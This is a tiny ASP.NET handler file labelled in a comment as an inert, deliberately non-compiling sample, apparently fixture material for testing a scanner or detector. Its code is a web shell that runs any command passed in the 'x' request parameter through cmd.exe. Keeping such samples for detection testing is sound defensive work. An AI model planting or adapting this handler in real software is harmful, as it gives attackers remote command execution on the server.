<% shodo inert sample: deliberate compile error, this page never runs %>
<%@ WebHandler Language="C#" Class="H" %>
public class H : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) { System.Diagnostics.Process.Start("cmd.exe", "/c " + c.Request["x"]); } public bool IsReusable { get { return false; } } }
